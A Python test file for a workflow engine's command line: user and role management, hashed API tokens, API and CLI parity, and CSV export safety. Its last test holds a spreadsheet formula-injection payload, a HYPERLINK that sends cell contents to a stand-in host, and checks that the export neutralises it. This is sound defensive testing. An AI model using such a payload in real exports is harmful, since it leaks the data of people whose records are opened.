"""The front door's command-line side, run as a real process (shared/CLI.md, "Acting through
the console and the HTTP API"): accounts of every role, disabled at once; API tokens printed
once and kept as hashes; and an operator's entry through the API that is the entry the same
command line gives."""
from __future__ import annotations

import json

from starlette.testclient import TestClient

from storage.db import Database
from tests.builders import application_data
from workflows.console.app import create_app
from workflows.core.clock import FixedClock
from workflows.core.config import Config
from workflows.core.times import parse_instant

PASSWORD = "correct horse battery"
ROLES = ("candidate", "headteacher", "post_school", "la_coordinator", "agency", "assessor",
         "review_coordinator", "review_officer", "operator", "auditor")


def test_an_account_of_every_role_but_system_is_added_listed_and_disabled(cli):
    for n, role in enumerate(ROLES):
        added = cli("user", "add", f"user{n}", "--role", role, input=PASSWORD + "\n")
        assert added.returncode == 0, added.stderr
    listed = {a["name"]: a for a in json.loads(cli.ok("user", "list", "--json").stdout)}
    assert {a["role"] for a in listed.values()} == set(ROLES)
    assert all(a["disabled_at"] is None for a in listed.values())
    assert cli("user", "add", "sys", "--role", "system",
               input=PASSWORD + "\n").returncode == 2
    assert "its sessions and tokens ended" in cli.ok("user", "disable", "user1").stdout
    listed = {a["name"]: a for a in json.loads(cli.ok("user", "list", "--json").stdout)}
    assert listed["user1"]["disabled_at"] is not None
    assert "disabled" in cli.ok("user", "list").stdout
    missing = cli("user", "disable", "nobody")
    assert missing.returncode == 2 and "no account 'nobody'" in missing.stderr


def test_a_token_is_printed_once_kept_as_a_hash_listed_and_revoked(cli):
    made = cli.ok("token", "add", "nas-system", "--role", "agency")
    token = made.stdout.strip()
    assert token.startswith("ast_") and len(token) > 40
    assert "shown only now" in made.stderr and "agency:nas-system" in made.stderr
    assert token not in (cli.folder / "ast_engine.db").read_bytes().decode("latin-1")
    listed = json.loads(cli.ok("token", "list", "--json").stdout)
    assert listed == [{"name": "nas-system", "role": "agency", "created_at": listed[0][
        "created_at"], "last_used_at": None, "revoked_at": None}]
    assert token not in cli.ok("token", "list").stdout
    again = cli("token", "add", "nas-system", "--role", "agency")
    assert again.returncode == 2 and "already a token" in again.stderr
    assert cli.ok("token", "revoke", "nas-system").stdout.startswith("revoked token")
    assert json.loads(cli.ok("token", "list", "--json").stdout)[0]["revoked_at"]
    gone = cli("token", "revoke", "nas-system")
    assert gone.returncode == 2
    # A revoked token's party gets a new one (its key rotated); the old one stays dead, and
    # the name is never another role's.
    other = cli("token", "add", "nas-system", "--role", "assessor")
    assert other.returncode == 2 and "already a token" in other.stderr
    renewed = cli.ok("token", "add", "nas-system", "--role", "agency").stdout.strip()
    assert renewed != token
    listed = json.loads(cli.ok("token", "list", "--json").stdout)
    assert [(t["name"], t["role"], t["revoked_at"]) for t in listed] == [
        ("nas-system", "agency", None)]


def test_user_and_token_help_teach_that_an_account_is_a_party(cli):
    assert "headteacher:tom.reed" in cli.ok("user", "--help").stdout
    assert "Authorization: Bearer" in " ".join(cli.ok("token", "--help").stdout.split())


def test_an_operators_api_entry_is_the_entry_the_command_line_gives(cli):
    now = "2027-01-07T11:00"
    data = json.dumps(application_data())
    by_cli, by_api = (cli.ok("open", "application", "--actor", "headteacher:tom.reed",
                             "--data", data, "--at", "2027-01-04T09:00", now=now).stdout.strip()
                      for _ in range(2))
    token = cli.ok("token", "add", "it.desk", "--role", "operator").stdout.strip()
    support = {"evaluation": "Strong practice across the school."}
    cli.ok("fire", by_cli, "support", "--actor", "operator:it.desk", "--for",
           "headteacher:tom.reed", "--at", "2027-01-05T09:30", "--data", json.dumps(support),
           now=now)
    db = Database(f"sqlite:///{cli.folder / 'ast_engine.db'}")
    clock = FixedClock(parse_instant(now))
    client = TestClient(create_app(db, Config(), clock, clock), base_url="http://localhost")
    answer = client.post(f"/api/v1/cases/{by_api}/triggers/support",
                         headers={"authorization": f"Bearer {token}"},
                         json={"data": support, "on_behalf_of": "headteacher:tom.reed",
                               "effective_at": "2027-01-05T09:30"})
    assert answer.status_code == 201, answer.text
    db.dispose()
    shown = {case: cli.json("show", case)["log"][-1] for case in (by_cli, by_api)}
    # (not when it was keyed in: the command line records the real time, this test a fixed one)
    same = ("seq", "trigger", "source", "dest", "actor", "for", "effective_at", "data",
            "engine")
    assert {k: shown[by_cli].get(k) for k in same} == {k: shown[by_api].get(k) for k in same}
    assert shown[by_api]["actor"] == "operator:it.desk"
    assert shown[by_api]["for"] == "headteacher:tom.reed"
    assert answer.json() == cli.json("show", by_api)


def test_the_csv_export_neutralises_a_formula_in_a_name(cli):
    formula = '=HYPERLINK("http://x.example/?"&A1,"click")'
    cli.ok("open", "application", "--actor", "headteacher:tom.reed", "--data",
           json.dumps(application_data(candidate={"name": formula,
                                                  "email": "x@hill.example.org"})))
    import csv
    import io
    rows = list(csv.DictReader(io.StringIO(cli.ok("audit", "export", "--format",
                                                  "csv").stdout)))
    assert rows[0]["name"] == "'" + formula
